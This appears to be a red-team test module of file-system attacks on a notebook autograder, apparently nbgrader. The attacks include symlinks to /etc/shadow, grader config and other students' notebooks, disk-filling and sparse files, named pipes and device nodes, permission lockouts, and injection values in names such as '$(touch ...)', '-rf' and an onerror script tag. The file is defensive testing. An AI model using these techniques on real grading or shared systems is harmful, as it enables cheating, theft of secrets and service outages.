"""Attacks: file."""

import os
import shutil
import socket
import stat

from tests.red_team.declared import attack
from tests.red_team.submission import READ


@attack(alone=True, deserves="everything")
def file_closed_folder(submission):
    """A folder that nobody may enter contains a file that nobody may read.

    Success: the class stops, or deserved points are lost.
    """
    submission.solve()
    submission.file("closed/secret.txt", "x")

    def close(folder):
        (folder / "closed" / "secret.txt").chmod(0)
        (folder / "closed").chmod(0)

    submission.on_disk(close)


@attack(alone=True)
def file_closed_submission(submission):
    """Nobody may read the notebook, and nobody may enter its folder.

    Success: the class stops.
    """

    def close(folder):
        (folder / "ps1.ipynb").chmod(0)
        folder.chmod(0)

    submission.on_disk(close)


@attack(alone=True, deserves="everything")
def file_closed_while_running(submission):
    """The running notebook removes all permissions from its folder.

    Success: the class stops, or deserved points are lost.
    """
    submission.solve()
    submission.add("""
        import os
        os.makedirs("deep/er")
        os.chmod("deep/er", 0)
        os.chmod("deep", 0)
        os.chmod(".", 0o000)
    """)


@attack(alone=True, deserves="everything")
def file_deep(submission):
    """Nested folders whose path exceeds the maximum length.

    Success: the class stops, or deserved points are lost.
    """
    submission.solve()

    def dig(folder):
        os.chdir(folder)
        for _ in range(120):
            os.mkdir("deeper" * 10)
            os.chdir("deeper" * 10)
        os.chdir("/")

    submission.on_disk(dig)


@attack(alone=True)
def file_device(submission):
    """Device files, one of which yields endless data when copied.

    Success: the class stops. Only root can create the files.
    """

    def make(folder):
        for name, number in (("null.csv", 3), ("zero.csv", 5)):
            os.mknod(folder / name, stat.S_IFCHR | 0o666, os.makedev(1, number))

    submission.on_disk(make)


@attack(alone=True, deserves="everything")
def file_disk_full(submission):
    """The running notebook writes files until the disk is full.

    Success: the class stops, a neighbor is not graded, or deserved points are lost.
    """
    submission.solve()
    submission.add("""
        import os
        for number in range(100):
            for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
                try:
                    with open(f"{folder}/fill{number}", "wb") as file:
                        for _ in range(50):
                            file.write(bytes(1 << 20))
                except OSError:
                    pass
    """)


@attack(alone=True, deserves="everything")
def file_fifo(submission):
    """A named pipe among the files: a program that opens it hangs.

    Success: the class stops, or deserved points are lost.
    """
    submission.solve()
    submission.on_disk(lambda folder: os.mkfifo(folder / "measurements.csv"))


@attack(alone=True)
def file_fifo_notebook(submission):
    """The notebook itself is a named pipe.

    Success: the class stops.
    """

    def replace(folder):
        (folder / "ps1.ipynb").unlink()
        os.mkfifo(folder / "ps1.ipynb")

    submission.on_disk(replace)


@attack(alone=True)
def file_fifo_timestamp(submission):
    """The file with the submission time is a named pipe.

    Success: the class stops.
    """
    submission.on_disk(lambda folder: os.mkfifo(folder / "timestamp.txt"))


@attack
def file_links_made_while_running(submission):
    """The running notebook replaces its own files with links and other files.

    Success: autograded/ or feedback/ contains a canary, or the attack leaves a trace.
    """
    submission.first("""
        import os
        targets = {
            "found.txt": "/etc/grader.conf",
            "data.csv": "/srv/course/answers.py",
            "ps1.ipynb": "/srv/course/notes.txt",
            "folder": "/srv/course/source",
        }
        for name, target in targets.items():
            try:
                if os.path.lexists(name):
                    os.remove(name)
                os.symlink(target, name)
            except OSError as error:
                print(error)
    """)


@attack
def file_links_written_through(submission):
    """Links in the submission point to files that grading might overwrite, or change the mode of.

    Success: the attack leaves a trace outside.
    """

    def link(folder):
        (folder / "data.csv").symlink_to("/srv/course/notes.txt")
        (folder / "log.txt").symlink_to("/home/teacher/exam.txt")
        (folder / "ps1.html").symlink_to("/srv/course/students.csv")

    submission.on_disk(link)
    submission.first("""
        import os
        for name in ("data.csv", "log.txt"):
            try:
                os.chmod(name, 0o644)
                open(name, "w").write("red-team-was-here")
            except OSError as error:
                print(error)
    """)


NAMES = [b"line\nend.txt", b"\xff\xfe\x80.txt", b"<script>alert(1)</script>.txt".replace(b"/", b""),
         b"\x1b]0;title\x07.txt", b"-rf", b"--config=x.py", b"$(touch red-team-was-here)",
         "\u202egnp.exe".encode(), b"a" * 250]  # fmt: skip


@attack(alone=True, deserves="everything")
def file_names(submission):
    """File names with line breaks, quotes, tags, control characters, and bytes that are not text.

    Success: the class stops, or deserved points are lost, or a page has an active tag.
    """
    submission.solve()

    def write(folder):
        for name in NAMES:
            with open(os.path.join(os.fsencode(folder), name), "wb") as file:
                file.write(b"x")

    submission.on_disk(write)


@attack(alone=True)
def file_notebook_is_folder(submission):
    """A folder has the notebook's name.

    Success: the class stops.
    """

    def replace(folder):
        (folder / "ps1.ipynb").unlink()
        (folder / "ps1.ipynb").mkdir()

    submission.on_disk(replace)


@attack(deserves="everything")
def file_second_notebook(submission):
    """More notebooks accompany the right one: an unknown one, a copy, one in a folder.

    Success: the attack earns points twice, the class stops, or deserved points are lost.
    """
    submission.solve()

    def copy(folder):
        data = (folder / "ps1.ipynb").read_bytes()
        (folder / "sub").mkdir()
        for name in ("ps1 (1).ipynb", "PS1.ipynb", "ps2.ipynb", "sub/ps1.ipynb", "x.ipynb"):
            (folder / name).write_bytes(data)
        (folder / "broken.ipynb").write_text("{")

    submission.on_disk(copy)


@attack(alone=True, deserves="everything")
def file_socket(submission):
    """A socket is among the files.

    Success: the class stops, or deserved points are lost.
    """
    submission.solve()

    def bind(folder):
        os.chdir(folder)
        socket.socket(socket.AF_UNIX).bind("service")
        os.chdir("/")

    submission.on_disk(bind)


@attack(alone=True)
def file_sparse(submission):
    """A sparse file of 40 GB, which fills the disk when it is copied.

    Success: the class stops because the disk is full.
    """
    submission.file("film.mp4", "x")
    submission.on_disk(lambda folder: os.truncate(folder / "film.mp4", 40 << 30))


@attack(alone=True)
def file_student_everyone(submission):
    """The student's folder is named `*`, which nbgrader interprets as everyone.

    Success: the class stops, or a neighbor loses points or pages.
    """
    submission.student = "*"


@attack(alone=True)
def file_student_html(submission):
    """The name of the student's folder contains a script.

    Success: a page has active content, or the class stops.
    """
    submission.student += "<img src=x onerror=alert(1)>"


@attack(alone=True)
def file_student_option(submission):
    """The name of the student's folder begins like an option and contains a line break.

    Success: the class stops, or a neighbor loses points or pages.
    """
    submission.student = "--force\n--db=sqlite:///x.db"


@attack(alone=True, deserves="everything")
def file_student_pattern(submission):
    """The name of the student's folder is a glob pattern and a format string.

    Success: the class stops, a neighbor loses points or pages, or deserved points are lost.
    """
    submission.solve()
    submission.student += "_{student_id}%s[a]"


@attack(deserves="everything")
def file_symlink_loop(submission):
    """Symbolic links that form cycles or point nowhere.

    Success: the class stops, or deserved points are lost.
    """
    submission.solve()

    def link(folder):
        (folder / "loop").symlink_to("loop")
        (folder / "back").symlink_to(".")
        (folder / "nowhere").symlink_to("/does/not/exist")

    submission.on_disk(link)


@attack
def file_symlink_read_by_code(submission):
    """The notebook reads links that were submitted with it.

    Success: any canary.
    """

    def link(folder):
        (folder / "root").symlink_to("/")
        (folder / "up").symlink_to("../../..")
        (folder / "answers").symlink_to("/srv/course/answers.py")

    submission.on_disk(link)
    submission.first(
        READ
        + """
read("answers", "up/*", "root/srv/course/*", "root/etc/grader.conf", "root/home/teacher/*")
"""
    )


@attack
def file_symlink_to_folder(submission):
    """Folders of the submission are symbolic links to the course's folders.

    Success: a canary in autograded/ or feedback/.
    """

    def link(folder):
        for number, target in enumerate(
            ["/srv/course/source", "/etc", "../../..", "/home/teacher"]
        ):
            (folder / f"data{number}").symlink_to(target)

    submission.on_disk(link)


@attack
def file_symlink_to_host(submission):
    """Files of the submission are symbolic links to the machine's and the course's files.

    Success: a canary in autograded/ or feedback/.
    """

    def link(folder):
        targets = [
            "/etc/shadow",
            "/etc/grader.conf",
            "/home/teacher/exam.txt",
            "../../../answers.py",
        ]
        for number, target in enumerate([*targets, "/srv/course/notes.txt"]):
            (folder / f"picture{number}.png").symlink_to(target)

    submission.on_disk(link)


@attack
def file_symlink_to_source(submission):
    """The notebook is a symbolic link to the instructor's, with the solutions.

    Success: the attack gets points, or the source's canary.
    """

    def link(folder):
        (folder / "ps1.ipynb").unlink()
        (folder / "ps1.ipynb").symlink_to("../../../source/ps1/ps1.ipynb")

    submission.on_disk(link)


@attack
def file_symlinked_notebook(submission):
    """The notebook is a symbolic link to a neighbor's.

    Success: the attack gets the neighbor's points or canary.
    """

    def link(folder):
        (folder / "ps1.ipynb").unlink()
        (folder / "ps1.ipynb").symlink_to(f"../../{submission.neighbor}/ps1/ps1.ipynb")

    submission.on_disk(link)


@attack
def file_symlinked_submission(submission):
    """The whole folder of the assignment is a symbolic link to a neighbor's.

    Success: the attack gets the neighbor's points or canary.
    """

    def link(folder):
        shutil.rmtree(folder)
        folder.symlink_to(f"../{submission.neighbor}/ps1")

    submission.on_disk(link)


@attack(alone=True, deserves="everything")
def file_thousands(submission):
    """Ten thousand small files in a hundred folders.

    Success: the class stops, or deserved points are lost.
    """
    submission.solve()
    for number in range(10000):
        submission.file(f"data/{number % 100}/{number}.txt", "x")


@attack(alone=True, deserves="everything")
def file_thousands_while_running(submission):
    """The running notebook creates a hundred thousand files and a very deep folder.

    Success: the class stops, or deserved points are lost.
    """
    submission.solve()
    submission.add("""
        import os
        os.mkdir("many")
        try:
            for number in range(100000):
                open(f"many/{number}", "w").close()
        except OSError as error:
            print(error)
        here = os.getcwd()
        try:
            for _ in range(2000):
                os.mkdir("d" * 50)
                os.chdir("d" * 50)
        except OSError as error:
            print(error)
        os.chdir(here)
    """)


@attack(alone=True)
def file_timestamp_far(submission):
    """The submission time is beyond the range of dates.

    Success: the class stops.
    """
    submission.file("timestamp.txt", "9999-12-31 23:59:59.999999 -2359")


@attack(alone=True, deserves="everything")
def file_timestamp_nonsense(submission):
    """The file with the submission time contains nonsense.

    Success: the class stops, or deserved points are lost.
    """
    submission.solve()
    submission.file("timestamp.txt", b"\xff\xfe the day before yesterday 99:99")


@attack(alone=True)
def file_very_deep(submission):
    """Folders so deep that recursive functions fail on them.

    Success: the class stops, or another student is not graded.
    """

    def nest(folder):
        before = os.open(".", os.O_RDONLY)
        os.chdir(folder)
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
        os.fchdir(before)
        os.close(before)

    submission.on_disk(nest)
